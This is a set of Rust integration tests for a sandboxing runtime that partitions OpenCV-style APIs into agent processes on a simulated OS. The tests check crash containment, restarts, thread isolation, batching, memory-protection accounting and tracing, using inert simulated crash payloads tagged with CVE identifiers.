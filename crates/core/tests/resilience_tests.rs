//! Failure-injection and configuration-corner tests for the runtime:
//! restart storms, snapshot policy edges, manual sub-partitioning
//! (§A.6), transport penalties, and state-loss semantics (§6).

use freepart::{
    CallError, ChannelTransport, PartitionId, PartitionPlan, Policy, RestartPolicy, Runtime,
    SandboxLevel,
};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};
use freepart_simos::device::Camera;
use freepart_simos::FaultKind;

fn seed_image(rt: &mut Runtime, path: &str) {
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

fn dos_payload(cve: &str) -> ExploitPayload {
    ExploitPayload {
        cve: cve.into(),
        actions: vec![ExploitAction::CrashSelf],
    }
}

#[test]
fn restart_storm_survives_many_crashes() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed_image(&mut rt, "/ok.simg");
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(
        "/evil.simg",
        fileio::encode_image(&img, Some(&dos_payload("CVE-2017-14136"))),
    );
    for round in 0..10 {
        let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
        // After every crash the agent must come back and serve cleanly.
        let ok = rt.call("cv2.imread", &[Value::from("/ok.simg")]);
        assert!(ok.is_ok(), "round {round}: {ok:?}");
    }
    assert!(rt.stats().restarts >= 10);
    assert!(rt.kernel.is_running(rt.host_pid()));
}

#[test]
fn crashed_agent_objects_are_state_lost_not_silently_wrong() {
    // §6: values in a crashed process are deliberately not restored.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed_image(&mut rt, "/ok.simg");
    let held = rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    // Kill the loading agent under the runtime.
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    // The Mat payload died with the agent; using it must fail loudly.
    let err = rt
        .call("cv2.GaussianBlur", std::slice::from_ref(&held))
        .unwrap_err();
    assert!(matches!(err, CallError::StateLost(_)), "{err:?}");
    let err = rt.fetch_bytes(held.as_obj().unwrap()).unwrap_err();
    assert!(matches!(err, CallError::StateLost(_)));
}

#[test]
fn snapshot_interval_zero_loses_stateful_objects_on_restart() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 0,
            ..Policy::freepart()
        },
    );
    rt.kernel.camera = Some(Camera::new(3, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    // Without snapshots the capture handle's payload is gone — but the
    // handle itself is buffer-less, so the re-opened camera still works
    // (the paper's "re-executing initialization restores the state").
    let again = rt.call("cv2.VideoCapture.read", &[cap]);
    assert!(again.is_ok(), "{again:?}");
    assert!(rt.stats().restarts >= 1);
}

#[test]
fn manual_sub_partitioning_pins_one_api_into_its_own_agent() {
    // §A.6: FreePart allows manually sub-partitioning an agent process.
    let reg = standard_registry();
    let detect = reg.id_of("cv2.CascadeClassifier.detectMultiScale").unwrap();
    let mut plan = PartitionPlan::four();
    plan.pin(detect, PartitionId(9));
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            plan,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/in.simg");
    rt.kernel.fs.put("/c.xml", vec![1; 8]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call(
        "cv2.CascadeClassifier.detectMultiScale",
        &[clf, img.clone()],
    )
    .unwrap();
    // The pinned API ran in its own agent, distinct from the ordinary
    // processing agent.
    let pinned_pid = rt.agent(PartitionId(9)).unwrap().pid;
    let processing_pid = rt
        .agent(rt.partition_of(reg.id_of("cv2.GaussianBlur").unwrap()))
        .unwrap()
        .pid;
    assert_ne!(pinned_pid, processing_pid);
    assert!(rt.agent(PartitionId(9)).unwrap().calls >= 1);
    // And a DoS through the pinned API leaves the main processing agent
    // untouched.
    let img2 = Image::new(32, 32, 3);
    rt.kernel.fs.put(
        "/evil.simg",
        fileio::encode_image(&img2, Some(&dos_payload("CVE-2019-14491"))),
    );
    let tainted = rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
    let clf2 = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let _ = rt.call("cv2.CascadeClassifier.detectMultiScale", &[clf2, tainted]);
    assert!(rt.kernel.is_running(processing_pid));
    // `img` was homed in the pinned agent when it crashed — its payload
    // is gone (§6 semantics). Fresh data flows keep working.
    assert!(matches!(
        rt.call("cv2.GaussianBlur", &[img]),
        Err(CallError::StateLost(_))
    ));
    seed_image(&mut rt, "/fresh.simg");
    let fresh = rt
        .call("cv2.imread", &[Value::from("/fresh.simg")])
        .unwrap();
    rt.call("cv2.GaussianBlur", &[fresh]).unwrap();
}

#[test]
fn pipe_transport_costs_more_virtual_time_than_shm() {
    let run = |transport: ChannelTransport| {
        let mut rt = Runtime::install(
            standard_registry(),
            Policy {
                transport,
                lazy_data_copy: false,
                ..Policy::freepart()
            },
        );
        seed_image(&mut rt, "/in.simg");
        rt.kernel.reset_accounting();
        let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let a = rt.call("cv2.GaussianBlur", &[img]).unwrap();
        rt.call("cv2.erode", &[a]).unwrap();
        rt.kernel.clock().now_ns()
    };
    let shm = run(ChannelTransport::SharedMemory);
    let pipe = run(ChannelTransport::Pipe);
    assert!(pipe > shm, "pipe {pipe} vs shm {shm}");
}

#[test]
fn coarse_union_sandbox_admits_mprotect_per_agent_does_not() {
    use freepart_simos::SyscallNo;
    let check = |sandbox: SandboxLevel| -> bool {
        let mut rt = Runtime::install(
            standard_registry(),
            Policy {
                sandbox,
                ..Policy::freepart()
            },
        );
        seed_image(&mut rt, "/in.simg");
        rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
        let pid = rt.agent(loading).unwrap().pid;
        rt.kernel
            .filter_of(pid)
            .unwrap()
            .is_none_or(|f| f.allows_number(SyscallNo::Mprotect))
    };
    assert!(check(SandboxLevel::CoarseUnion), "coarse allows mprotect");
    assert!(!check(SandboxLevel::PerAgent), "per-agent blocks mprotect");
}

#[test]
fn sealed_agents_stay_sealed_across_restart() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed_image(&mut rt, "/ok.simg");
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    assert!(rt.agent(loading).unwrap().sealed);
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let agent = rt.agent(loading).unwrap();
    assert_ne!(agent.pid, pid, "respawned");
    assert!(agent.sealed, "filter reinstated immediately");
    assert!(
        rt.kernel.filter_of(agent.pid).unwrap().is_some(),
        "kernel-side filter present"
    );
}

#[test]
fn no_sandbox_policy_leaves_agents_unfiltered() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            sandbox: SandboxLevel::None,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/ok.simg");
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    for p in rt.partitions() {
        let pid = rt.agent(p).unwrap().pid;
        assert!(rt.kernel.filter_of(pid).unwrap().is_none());
    }
}

#[test]
fn stay_down_policy_reports_unavailable_consistently() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            restart: RestartPolicy::StayDown,
            ..Policy::freepart()
        },
    );
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(
        "/evil.simg",
        fileio::encode_image(&img, Some(&dos_payload("CVE-2017-14136"))),
    );
    let first = rt
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(matches!(first, CallError::AgentCrashed(_)));
    seed_image(&mut rt, "/ok.simg");
    for _ in 0..3 {
        let err = rt
            .call("cv2.imread", &[Value::from("/ok.simg")])
            .unwrap_err();
        assert!(matches!(err, CallError::AgentUnavailable(_)));
    }
    // Other partitions unaffected, indefinitely.
    rt.call("cv2.pollKey", &[]).unwrap();
}
