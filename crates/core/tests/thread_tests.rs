//! Multi-threading model tests (paper §6 "Partitioned Processes and
//! Multi-threading"): every application thread gets its own set of
//! agent processes and its own framework-state machine.

use freepart::{Policy, Runtime, ThreadId};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};

fn seed(rt: &mut Runtime, path: &str, payload: Option<&ExploitPayload>) {
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(path, fileio::encode_image(&img, payload));
}

#[test]
fn each_thread_gets_its_own_agents() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let t1 = rt.spawn_thread();
    // Host + 4 main-thread agents + 4 thread-1 agents.
    assert_eq!(rt.kernel.process_count(), 9);
    seed(&mut rt, "/a.simg", None);
    let main_img = rt.call("cv2.imread", &[Value::from("/a.simg")]).unwrap();
    let t1_img = rt
        .call_on(t1, "cv2.imread", &[Value::from("/a.simg")])
        .unwrap();
    // The two loads ran in different loading agents.
    let main_home = rt.objects.meta(main_img.as_obj().unwrap()).unwrap().home;
    let t1_home = rt.objects.meta(t1_img.as_obj().unwrap()).unwrap().home;
    assert_ne!(main_home, t1_home);
}

#[test]
fn thread_state_machines_are_independent() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let t1 = rt.spawn_thread();
    seed(&mut rt, "/a.simg", None);
    let img = rt.call("cv2.imread", &[Value::from("/a.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    // Main thread advanced to processing; t1 is still initializing.
    assert_eq!(
        rt.current_state(),
        freepart::FrameworkState::InType(ApiType::DataProcessing)
    );
    assert_eq!(rt.state_of(t1), freepart::FrameworkState::Initialization);
    let img1 = rt
        .call_on(t1, "cv2.imread", &[Value::from("/a.simg")])
        .unwrap();
    assert_eq!(
        rt.state_of(t1),
        freepart::FrameworkState::InType(ApiType::DataLoading)
    );
    // t1's loading-state object stays writable while main is elsewhere.
    assert!(!rt.is_protected(img1.as_obj().unwrap()));
}

#[test]
fn crash_on_one_thread_leaves_other_threads_agents_alive() {
    let mut rt = Runtime::install(standard_registry(), Policy::no_restart());
    let t1 = rt.spawn_thread();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed(&mut rt, "/evil.simg", Some(&payload));
    // DoS the *thread-1* loading agent.
    let err = rt.call_on(t1, "cv2.imread", &[Value::from("/evil.simg")]);
    assert!(err.is_err());
    // The main thread's loading agent still serves.
    seed(&mut rt, "/ok.simg", None);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    // And thread-1's loading path is the only thing down.
    assert!(rt
        .call_on(t1, "cv2.imread", &[Value::from("/ok.simg")])
        .is_err());
    rt.call_on(t1, "cv2.pollKey", &[]).unwrap();
}

#[test]
fn unspawned_thread_is_rejected() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    assert!(rt.call_on(ThreadId(7), "cv2.pollKey", &[]).is_err());
}

#[test]
fn objects_flow_between_threads_via_ldc() {
    // A frame loaded on one thread can be processed on another: LDC
    // moves it directly between the two threads' agents.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let t1 = rt.spawn_thread();
    seed(&mut rt, "/a.simg", None);
    let img = rt.call("cv2.imread", &[Value::from("/a.simg")]).unwrap();
    let out = rt.call_on(t1, "cv2.GaussianBlur", &[img]).unwrap();
    assert!(matches!(out, Value::Obj(_)));
}
