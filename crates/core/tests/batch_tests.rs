//! Batched hooked-call submission and differential re-protection:
//! crash-mid-batch stays exactly-once per seq, no batch straddles a
//! framework-state transition, batch spans enclose their member call
//! spans in the exported trace, and mprotect accounting only ever
//! charges pages whose permissions actually change — while post-restart
//! restores still get the full (non-differential) re-protection.

use freepart::{AuditRecord, FlushReason, Policy, Runtime, SpanPhase, StateMachine, ThreadId};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ObjectKind, ObjectStore, Value};
use freepart_simos::device::Camera;
use freepart_simos::{FaultKind, Kernel, Perms, SimError, PAGE_SIZE};

fn seed_image(rt: &mut Runtime, path: &str) {
    rt.kernel
        .fs
        .put(path, fileio::encode_image(&Image::new(12, 12, 3), None));
}

/// A small async filter chain that keeps batches open (promise peeks
/// without retiring); `rounds` imread→filter groups alternate Loading
/// and Processing so transitions punctuate the batches.
fn run_batched_chain(rt: &mut Runtime, rounds: u32) {
    for i in 0..rounds {
        let path = format!("/in-{i}.simg");
        seed_image(rt, &path);
        let h = rt.call_async("cv2.imread", &[Value::Str(path)]).unwrap();
        let img = rt.promise(h).unwrap();
        let h = rt.call_async("cv2.cvtColor", &[img]).unwrap();
        let gray = rt.promise(h).unwrap();
        let h = rt.call_async("cv2.GaussianBlur", &[gray]).unwrap();
        let smooth = rt.promise(h).unwrap();
        rt.call_async("cv2.Canny", &[smooth]).unwrap();
    }
    rt.drain_inflight();
}

#[test]
fn crash_mid_batch_replays_each_seq_exactly_once() {
    // Two reads ride in an open batch when a third one's agent crashes
    // in the response window. The retry must re-send the same seq and be
    // answered from the journal — observable on the camera, whose frame
    // counter only moves when `read` actually executes.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
    rt.kernel.camera = Some(Camera::new(7, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();

    let h1 = rt
        .call_async("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    let h2 = rt
        .call_async("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    assert_eq!(rt.in_flight(), 2, "both reads pending in the open batch");

    let read = rt.registry().id_of("cv2.VideoCapture.read").unwrap();
    let partition = rt.partition_of(read);
    rt.inject_crash_before_response(partition);
    let restarts_before = rt.stats().restarts;
    let h3 = rt
        .call_async("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();

    // The agent died after executing (and journalling) the third read;
    // the crash-retry replayed it instead of re-executing.
    assert_eq!(rt.stats().restarts, restarts_before + 1);
    assert_eq!(rt.kernel.camera.as_ref().unwrap().frames_served(), 3);

    // Retiring everything (which flushes the open batch as a hazard)
    // serves all three results without any re-execution.
    for h in [h1, h2, h3] {
        assert!(rt.wait(h).is_ok());
    }
    assert_eq!(rt.in_flight(), 0);
    assert_eq!(
        rt.kernel.camera.as_ref().unwrap().frames_served(),
        3,
        "exactly once per seq, batched or not"
    );
}

#[test]
fn no_batch_straddles_a_state_transition() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
    rt.enable_tracing();
    run_batched_chain(&mut rt, 3);

    let events = rt.tracer().events();
    let batches: Vec<_> = events
        .iter()
        .filter(|s| s.phase == SpanPhase::Batch)
        .collect();
    assert!(!batches.is_empty(), "the chain must produce batch spans");
    let transitions: Vec<u64> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter_map(|r| match r {
            AuditRecord::StateTransition { at_ns, .. } => Some(*at_ns),
            _ => None,
        })
        .collect();
    assert!(
        transitions.len() >= 2,
        "the chain must alternate framework states"
    );
    // The drain barrier flushes the open batch *before* the transition
    // is observed, so no transition instant may fall inside a batch.
    for b in &batches {
        for &t in &transitions {
            assert!(
                !(b.start_ns < t && t < b.end_ns),
                "batch [{}, {}] straddles transition at {t}",
                b.start_ns,
                b.end_ns
            );
        }
    }
    // And the recorded flush reasons name the transition barrier.
    let reasons: Vec<FlushReason> = rt
        .tracer()
        .batch_flushes()
        .iter()
        .map(|(_, _, r, _)| *r)
        .collect();
    assert!(reasons.contains(&FlushReason::Transition));
}

#[test]
fn batch_spans_enclose_their_member_call_spans() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
    rt.enable_tracing();
    run_batched_chain(&mut rt, 2);

    let events = rt.tracer().events();
    let mut multi_member = 0;
    for b in events.iter().filter(|s| s.phase == SpanPhase::Batch) {
        let count = b.bytes;
        assert!(count > 0, "batch spans carry their member count");
        if count > 1 {
            multi_member += 1;
        }
        // Members are consecutive seqs ending at the span's seq.
        let first = b.seq + 1 - count;
        let members: Vec<_> = events
            .iter()
            .filter(|s| s.phase == SpanPhase::Call && (first..=b.seq).contains(&s.seq))
            .collect();
        assert_eq!(members.len() as u64, count, "every member has a call span");
        for m in members {
            assert!(
                m.start_ns >= b.start_ns && m.end_ns <= b.end_ns,
                "call {} [{}, {}] escapes batch [{}, {}]",
                m.seq,
                m.start_ns,
                m.end_ns,
                b.start_ns,
                b.end_ns
            );
            assert_eq!(m.partition, b.partition);
        }
    }
    assert!(multi_member > 0, "the chain coalesces multi-call batches");
}

#[test]
fn chrome_export_carries_batch_spans_and_flush_instants() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
    rt.enable_tracing();
    run_batched_chain(&mut rt, 2);
    let trace = rt.export_chrome_trace();
    assert!(
        trace.contains("\"name\":\"batch\""),
        "batch spans must export"
    );
    assert!(
        trace.contains("\"calls\":"),
        "batch spans carry member-call counts, not bytes"
    );
    assert!(
        trace.contains("\"cat\":\"batch\""),
        "flush instants must export"
    );
    assert!(
        trace.contains("flush:transition"),
        "instants name the flush reason"
    );
}

#[test]
fn protect_charges_only_changed_pages() {
    let mut k = Kernel::new();
    let pid = k.spawn("p");
    let mut store = ObjectStore::new();
    let obj = store
        .create_with_data(
            &mut k,
            pid,
            ObjectKind::Blob,
            "x",
            &[7u8; 2 * PAGE_SIZE as usize],
        )
        .unwrap();
    let (addr, len) = store.meta(obj).unwrap().buffer.unwrap();

    let pages0 = k.metrics().protected_pages;
    assert_eq!(k.protect(pid, addr, len, Perms::R).unwrap(), 2);
    assert_eq!(k.metrics().protected_pages, pages0 + 2);

    // Re-protecting to the same permissions is free: no pages, no time.
    let ns = k.clock().now_ns();
    assert_eq!(k.protect(pid, addr, len, Perms::R).unwrap(), 0);
    assert_eq!(k.metrics().protected_pages, pages0 + 2);
    assert_eq!(k.clock().now_ns(), ns, "a no-op mprotect charges nothing");

    // A partial diff charges exactly the changed pages.
    assert_eq!(k.protect(pid, addr, PAGE_SIZE, Perms::RW).unwrap(), 1);
    assert_eq!(
        k.protect(pid, addr, len, Perms::R).unwrap(),
        1,
        "only the page whose permissions differ is touched"
    );
    assert_eq!(k.metrics().protected_pages, pages0 + 4);
    assert!(k.perms_match(pid, addr, len, Perms::R));
}

#[test]
fn noop_transition_issues_zero_mprotects() {
    // Two state machines (two application threads) sharing one object:
    // the second machine's lock finds every page already read-only and
    // must not issue a single mprotect — while still accounting the
    // object as protected.
    let mut k = Kernel::new();
    let pid = k.spawn("host");
    let mut store = ObjectStore::new();
    let obj = store
        .create_with_data(&mut k, pid, ObjectKind::Blob, "cfg", &[1u8; 64])
        .unwrap();
    let mut a = StateMachine::new(true);
    let mut b = StateMachine::new(true);
    a.define(obj);
    b.define(obj);

    assert_eq!(a.observe(ApiType::DataLoading, &mut k, &store).unwrap(), 1);
    let pages = k.metrics().protected_pages;
    assert!(pages > 0, "the first lock really protected pages");
    let ns = k.clock().now_ns();

    assert_eq!(b.observe(ApiType::DataLoading, &mut k, &store).unwrap(), 1);
    assert!(b.is_protected(obj), "the object still counts as locked");
    assert_eq!(k.metrics().protected_pages, pages, "zero mprotects issued");
    assert_eq!(k.clock().now_ns(), ns, "zero virtual time charged");
}

#[test]
fn audited_page_delta_equals_true_permission_diff() {
    // Thread MAIN locks the shared host config on its Init→Loading
    // transition (real permission change, pages > 0); thread T's own
    // transition locks the same object again — a no-op delta whose audit
    // record must carry zero pages while still counting the lock.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    let t = rt.spawn_thread();
    let cfg = rt.host_data("self.config", &[7u8; 64]);
    seed_image(&mut rt, "/a.simg");
    seed_image(&mut rt, "/b.simg");

    rt.call("cv2.imread", &[Value::from("/a.simg")]).unwrap();
    rt.call_on(t, "cv2.imread", &[Value::from("/b.simg")])
        .unwrap();
    assert!(rt.is_protected(cfg));

    let records: Vec<(ThreadId, u64, usize)> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter_map(|r| match r {
            AuditRecord::StateTransition {
                thread,
                pages,
                objects_locked,
                ..
            } => Some((*thread, *pages, *objects_locked)),
            _ => None,
        })
        .collect();
    let main = records
        .iter()
        .find(|(th, _, _)| *th == ThreadId::MAIN)
        .expect("MAIN transitioned");
    let other = records
        .iter()
        .find(|(th, _, _)| *th == t)
        .expect("T transitioned");
    assert!(main.1 > 0, "first lock audits the real page delta");
    assert_eq!(main.2, 1, "one object locked on MAIN's transition");
    assert_eq!(
        other.1, 0,
        "re-locking already-read-only pages audits a zero delta"
    );
    assert_eq!(other.2, 1, "but the object still counts as locked");
    // Every audited page is a kernel page transition and vice versa.
    let audited: u64 = rt.tracer().audit_log().iter().map(AuditRecord::pages).sum();
    assert_eq!(audited, rt.kernel.metrics().protected_pages);
}

#[test]
fn post_restart_reprotection_is_full_not_differential() {
    // A restored snapshot lands in fresh RW pages, so the re-protection
    // delta is the object's full page count — the differential path must
    // never skip it.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/in.simg");
    rt.kernel.fs.put("/c.xml", vec![5; 64]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let clf_id = clf.as_obj().unwrap();
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // Loading → Processing: the classifier locks read-only.
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    assert!(rt.is_protected(clf_id));
    let full_pages = rt.objects.meta(clf_id).unwrap().len().div_ceil(PAGE_SIZE);

    let loading = rt.partition_of(rt.registry().id_of("cv2.CascadeClassifier.load").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    let pages_before = rt.kernel.metrics().protected_pages;
    rt.restart_agent(loading);
    assert_eq!(
        rt.kernel.metrics().protected_pages,
        pages_before + full_pages,
        "restart re-locks every restored page, not a differential subset"
    );
    let meta = rt.objects.meta(clf_id).unwrap();
    let (new_addr, _) = meta.buffer.expect("snapshot restored the payload");
    assert!(matches!(
        rt.kernel.mem_write(meta.home, new_addr, &[0xAA]),
        Err(SimError::Fault(_))
    ));
}
