//! §6 "Impact of API Miscategorization": if the hybrid analysis labels
//! an API wrongly, FreePart must stay *functionally correct* — the API
//! just runs in the wrong agent, costing extra IPC/data movement — and
//! the blast radius of exploits follows the (wrong) placement.

use freepart::{Policy, Runtime};
use freepart_analysis::{categorize, SyscallProfile, TestCorpus};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};

/// Builds a runtime whose report deliberately mislabels
/// `cv2.GaussianBlur` as a Storing API.
fn runtime_with_misblur() -> Runtime {
    let reg = standard_registry();
    let corpus = TestCorpus::full(&reg);
    let mut report = categorize(&reg, &corpus);
    let blur = reg.id_of("cv2.GaussianBlur").unwrap();
    report
        .per_api
        .get_mut(&blur)
        .expect("categorized")
        .final_type = ApiType::Storing;
    let profile = SyscallProfile::build(&reg, &corpus);
    Runtime::install_with(standard_registry(), report, profile, Policy::freepart())
}

fn seed(rt: &mut Runtime, path: &str) {
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

#[test]
fn miscategorized_api_still_computes_correctly() {
    // Reference result with the correct categorization.
    let mut good = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut good, "/in.simg");
    let img = good.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let blur = good.call("cv2.GaussianBlur", &[img]).unwrap();
    let want = good.fetch_bytes(blur.as_obj().unwrap()).unwrap();

    // Same pipeline with blur mislabeled as Storing.
    let mut bad = runtime_with_misblur();
    seed(&mut bad, "/in.simg");
    let img = bad.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let blur = bad.call("cv2.GaussianBlur", &[img]).unwrap();
    let got = bad.fetch_bytes(blur.as_obj().unwrap()).unwrap();
    assert_eq!(got, want, "miscategorization must not change results");
    // ...but it runs in the storing agent.
    let blur_id = bad.registry().id_of("cv2.GaussianBlur").unwrap();
    assert_eq!(
        bad.partition_of(blur_id),
        bad.partition_of(bad.registry().id_of("cv2.imwrite").unwrap())
    );
}

#[test]
fn miscategorization_costs_extra_data_movement() {
    // A processing-heavy chain: with blur mislabeled, the image ping-
    // pongs between the processing and storing agents on every step.
    let run = |mut rt: Runtime| {
        seed(&mut rt, "/in.simg");
        let mut cur = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        for _ in 0..6 {
            cur = rt.call("cv2.GaussianBlur", &[cur]).unwrap();
            cur = rt.call("cv2.erode", &[cur]).unwrap();
        }
        rt.stats().ldc_copies
    };
    let good = run(Runtime::install(standard_registry(), Policy::freepart()));
    let bad = run(runtime_with_misblur());
    assert!(
        bad >= good + 10,
        "mislabel should force extra moves: {bad} vs {good}"
    );
}

#[test]
fn exploit_blast_radius_follows_the_wrong_placement() {
    // A DoS through the mislabeled blur crashes the *storing* agent —
    // the §6 consequence: the exploit gains access to (and takes down)
    // a process it should never have been near.
    use freepart_frameworks::{ExploitAction, ExploitPayload};
    let mut rt = runtime_with_misblur();
    // Pretend blur is vulnerable via a tainted input (reuse the cascade
    // CVE, which no loader consumes).
    let payload = ExploitPayload {
        cve: "CVE-2019-14491".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    let img = Image::new(32, 32, 3);
    rt.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    let tainted = rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
    rt.kernel.fs.put("/c.xml", vec![1; 8]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    // detectMultiScale is *correctly* in the processing agent; the taint
    // fires there and crashes it. Blur (in storing) is untouched, as is
    // the actual storing API path — but under the mislabel they now share
    // fate with each other.
    let _ = rt.call("cv2.CascadeClassifier.detectMultiScale", &[clf, tainted]);
    let storing_agent = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.imwrite").unwrap()))
        .unwrap()
        .pid;
    assert!(rt.kernel.is_running(storing_agent));
    // The host survived regardless — partitioning contains even
    // miscategorized surfaces.
    assert!(rt.kernel.is_running(rt.host_pid()));
}
