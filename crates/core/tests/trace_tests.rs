//! Regression tests for the observability layer: the security audit
//! log's one-record-per-transition invariant, zero-cost-when-disabled
//! tracing, telemetry on the crash/replay path, and the Chrome
//! `trace_event` export.

use freepart::{AuditRecord, Policy, RestartBudget, Runtime, SpanPhase};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};
use freepart_simos::device::Camera;
use freepart_simos::FaultKind;

/// Drives the OMR grader's per-sample call shape: load → process
/// (three hops) → contour extraction → display → store. Walks the
/// framework-state machine through every state.
fn omr_shaped_pipeline(rt: &mut Runtime) {
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(16, 16, 3), None),
    );
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let smooth = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    let thresh = rt.call("cv2.threshold", &[smooth]).unwrap();
    rt.call("cv2.findContours", std::slice::from_ref(&thresh))
        .unwrap();
    rt.call("cv2.imshow", &[Value::from("omr"), thresh.clone()])
        .unwrap();
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), thresh])
        .unwrap();
}

#[test]
fn every_transition_yields_one_audit_record_with_matching_page_delta() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    rt.kernel.reset_accounting();
    omr_shaped_pipeline(&mut rt);

    let transitions: Vec<_> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter(|r| matches!(r, AuditRecord::StateTransition { .. }))
        .collect();
    // Exactly one audit record per state-machine transition taken.
    assert_eq!(transitions.len() as u64, rt.stats().transitions);
    assert!(!transitions.is_empty(), "pipeline must change state");
    for r in &transitions {
        let AuditRecord::StateTransition { from, to, .. } = r else {
            unreachable!()
        };
        assert_ne!(from, to, "audit records only actual transitions");
    }

    // The audit log accounts for *every* mprotect page transition the
    // kernel counted: transition locks/unlocks plus migration reapplies.
    let audited: u64 = rt.tracer().audit_log().iter().map(AuditRecord::pages).sum();
    assert_eq!(audited, rt.kernel.metrics().protected_pages);
}

#[test]
fn tracing_disabled_records_nothing_and_enabled_costs_no_virtual_time() {
    let mut plain = Runtime::install(standard_registry(), Policy::freepart());
    plain.kernel.reset_accounting();
    omr_shaped_pipeline(&mut plain);
    assert!(plain.tracer().events().is_empty());
